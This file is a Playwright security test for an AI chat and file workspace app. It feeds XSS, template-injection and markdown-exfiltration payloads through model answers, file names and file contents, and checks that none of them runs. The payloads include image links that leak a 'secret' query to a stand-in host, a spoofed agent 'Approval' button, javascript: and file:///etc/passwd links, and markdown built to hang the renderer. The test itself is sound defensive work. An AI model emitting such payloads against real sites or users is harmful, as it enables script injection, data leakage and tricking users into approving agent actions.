import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { inBrowser, type Lane } from './lane.ts';
import { ROOMS, type Room } from './rooms/all-rooms.ts';

/** What a hostile text tries, `X` being where it wants to get to; each is said in every way that a place of a view has. */
const PAYLOADS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><use href="https://away.example/x.svg#a"/></svg>',
  '<iframe src="https://away.example/"></iframe><object data="https://away.example/"></object>',
  '<style>*{background:url(https://away.example/s)}</style><link rel=stylesheet href=https://away.example/c.css>',
  '<meta http-equiv=refresh content="0;url=https://away.example/">',
  '<base href="https://away.example/"><form action="https://away.example/"><button>Approve</button></form>',
  '![out](https://away.example/leak.png?q=secret)',
  '![out][ref]\n\n[ref]: https://away.example/leak2.png',
  '[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)',
  '[vb](vbscript:x) [file](file:///etc/passwd) [user](https://me:pw@away.example/)',
  '<https://away.example/auto> https://away.example/bare',
  '[1]\n\n[1]: https://away.example/fake-source',
  '<a href="javascript:window.pwned=1">Allow…</a>',
  '<section aria-label="Approval of submitJob"><button>Yes, do exactly this</button></section>',
  '{{constructor.constructor("window.pwned=1")()}} $' + '{window.pwned=1} {{count}} $t(agent.allow)',
  '"><img src=x onerror=window.pwned=1>',
  '\u202Egnp.exe\u202C \u0000 \uFEFF \u2066hidden\u2069',
  `${'> '.repeat(500)}deep`,
  `${'['.repeat(2000)}a${'](b)'.repeat(2000)}`,
  `${'*a '.repeat(3000)}`,
  '```html\n<script>window.pwned=1</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | [x](javascript:1) |',
  '- [ ] <input autofocus onfocus=window.pwned=1>',
];

const NAMES = [
  '<img src=x onerror=pwned=1>.md',
  'javascript:alert(1).txt',
  '"onmouseover="pwned=1.csv',
  '{{count}}.md',
];

/** Through the answer of a model, a title, names and contents of files, the arguments and results of tools. */
export async function throwPayloads(lane: Lane, workspaceId: string): Promise<void> {
  const { service, provider } = lane;
  const url = `${service.url}/w/${workspaceId}`;
  for (const name of NAMES) {
    const content = name.endsWith('.csv')
      ? `a,b\n"${PAYLOADS[1]?.replaceAll('"', '""')}",2\n`
      : PAYLOADS.join('\n\n');
    await service.call('POST', '/api/files/write', { workspaceId, path: name, content });
  }
  await inBrowser(lane, async (page) => {
    for (const [number, payload] of PAYLOADS.entries()) {
      provider.answer = () => `${payload}\n\nend of ${number}`;
      await askApi(lane, workspaceId, `payload-${number}`, payload.slice(0, 300));
      await page.goto(`${url}/chat/payload-${number}`);
      await page.getByText(`end of ${number}`, { exact: false }).last().waitFor();
      await checkInert(page);
    }
    for (const name of NAMES) {
      await page.goto(`${url}/files?path=${encodeURIComponent(name)}`);
      await page.getByRole('heading', { name }).waitFor();
      await page.locator('[aria-label="Content of the file"]').waitFor();
      await checkInert(page);
    }
    for (const room of ROOMS) await throwIntoRoom(lane, page, room, workspaceId);
  });
}

async function throwIntoRoom(lane: Lane, page: Page, room: Room, workspaceId: string): Promise<void> {
  for (const { path, ready } of (await room.plant?.(lane, workspaceId, PAYLOADS)) ?? []) {
    await page.goto(lane.service.url + path);
    await page.locator(ready).first().waitFor();
    await checkInert(page);
  }
}

async function askApi({ service }: Lane, workspaceId: string, id: string, text: string): Promise<void> {
  const messages = [{ id: `q-${id}`, role: 'user', parts: [{ type: 'text', text }] }];
  const { status, bytes } = await service.call('POST', '/api/chat', { id, workspaceId, messages });
  assert.equal(status, 200, bytes.toString());
}

/** Nothing ran, nothing of theirs became an element that acts, and every link that leads away says where. */
async function checkInert(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const main = document.querySelector('main');
    const all = (selector: string) => [...(main?.querySelectorAll(selector) ?? [])];
    const links = all('a[href]') as HTMLAnchorElement[];
    const away = links.filter(({ origin }) => origin !== location.origin);
    return {
      pwned: 'pwned' in window,
      elements: all('img, script, iframe, object, embed, link, style, base, meta, form[action], svg use')
        .length,
      approvals: all('[aria-label^="Approval"]').length,
      odd: links.filter(({ protocol }) => !/^https?:$/.test(protocol)).length,
      unsaid: away.filter(
        ({ textContent, host, rel }) => !textContent?.includes(host) || !rel.includes('noopener'),
      ).length,
    };
  });
  assert.deepEqual(found, { pwned: false, elements: 0, approvals: 0, odd: 0, unsaid: 0 });
}
